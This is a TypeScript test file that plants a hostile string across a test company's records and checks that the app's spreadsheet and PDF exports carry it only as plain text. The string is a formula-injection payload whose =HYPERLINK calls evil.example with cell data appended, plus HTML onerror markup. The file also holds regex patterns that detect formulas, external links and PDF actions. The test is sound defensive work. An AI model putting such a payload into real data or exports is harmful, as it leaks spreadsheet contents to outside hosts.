import { methodOf, pathOf } from '@quayside/contract/kernel/api.ts'
import { readXlsx } from 'hucre/xlsx'
import { describe, expect, it } from 'vitest'
import { routes } from '../app.ts'
import { inspectZip, unzipPart } from '../platform/files/zip-directory.ts'
import { testApp } from '../platform/testing/test-app.ts'
import { marker } from './isolation.marker.ts'
import { plant } from './isolation.planted.ts'
import { samples } from './isolation.samples.ts'

const app = await testApp()
const owner = await app.owner()
const a = await plant(app)

/** A formula, a link and markup in one text, as a customer may type it as a name. */
const hostile = `=HYPERLINK("https://evil.example/?"&A1,"x")<img src=x onerror=1>`

/** In every text of the company: what a rule of the table does not allow stays as it is. */
async function poison(): Promise<number> {
  const { rows } = await owner.query<{ table: string; column: string }>(
    `select c.table_name as table, c.column_name as column
     from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
     where table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type = 'text' and c.is_generated = 'NEVER'
       and exists (select 1 from information_schema.columns k where k.table_schema = 'public'
         and k.table_name = c.table_name and k.column_name = 'company_id')`,
  )
  let changed = 0
  for (const { table, column } of rows) {
    const answer = await owner
      .query(
        `update ${table} set ${column} = replace(${column}, $1, $2) where company_id = $3 and ${column} like '%' || $1 || '%'`,
        [marker, hostile, a.companyId],
      )
      .catch(() => undefined)
    changed += answer?.rowCount ?? 0
  }
  return changed
}
const changed = await poison()

const files = routes.filter(({ key, endpoint }) => endpoint.binary && methodOf(key) === 'GET')
const seen = { xlsx: 0, pdf: 0, hostile: 0 }

describe('hostile texts in files', () => {
  it('stand in many records', () => {
    expect(changed).toBeGreaterThan(20)
    expect(files.length).toBeGreaterThan(30)
  })

  it.each(files.map(({ key }) => key))(
    '%s writes them as texts, without formula, link or action',
    async (key) => {
      for (const sample of samples[key]?.(a) ?? [{}]) {
        const path = pathOf(key).replaceAll(/\{(\w+)\}/g, (_, name: string) => sample.params?.[name] ?? '')
        const query = new URLSearchParams(sample.query ?? {})
        const response = await fetch(`${app.address}/api/${path}?${query}`, {
          headers: { authorization: `bearer ${a.token}`, 'accept-language': 'en-US' },
        })
        expect(response.status, key).toBeLessThan(500)
        const bytes = Buffer.from(await response.arrayBuffer())
        if (bytes.subarray(0, 2).toString('latin1') === 'PK') await checkSheets(bytes)
        if (bytes.subarray(0, 5).toString('latin1') === '%PDF-') checkPdf(bytes)
      }
    },
  )

  it('were met in sheets and in PDFs', () => {
    expect(seen.xlsx).toBeGreaterThan(15)
    expect(seen.pdf).toBeGreaterThan(0)
    expect(seen.hostile).toBeGreaterThan(5)
  })
})

/** Excel runs what stands in an `f`, follows a `hyperlink` and loads what a relation outside of the file names. */
async function checkSheets(bytes: Buffer): Promise<void> {
  const zip = inspectZip(bytes, { maxEntries: 1_000, maxUnzippedBytes: 100_000_000, maxRatio: 1_000 })
  if (!zip.ok) throw new Error('the sheet cannot be read')
  for (const [name, entry] of zip.entries) {
    expect(name).not.toMatch(/vbaProject|externalLink/i)
    const content = await unzipPart(bytes, entry, 100_000_000)
    const part = String(content)
    if (name.endsWith('.pdf')) checkPdf(content ?? Buffer.alloc(0))
    if (name.startsWith('xl/worksheets/')) expect(part).not.toMatch(/<f[\s>]|<hyperlink/)
    if (name.endsWith('.rels')) expect(part).not.toMatch(/TargetMode="External"/)
  }
  // An archive of other files is no sheet.
  if (!zip.entries.has('[Content_Types].xml')) return
  seen.xlsx += 1
  const { sheets } = await readXlsx(bytes)
  const cells = sheets.flatMap(({ rows }) => rows.flat())
  seen.hostile += cells.filter((cell) => typeof cell === 'string' && cell.includes('HYPERLINK')).length
}

/** Objects that a reader follows or runs by itself. */
function checkPdf(bytes: Buffer): void {
  seen.pdf += 1
  expect(bytes.toString('latin1')).not.toMatch(
    /\/(JavaScript|JS|Launch|OpenAction|URI|SubmitForm|EmbeddedFile)\b/,
  )
}
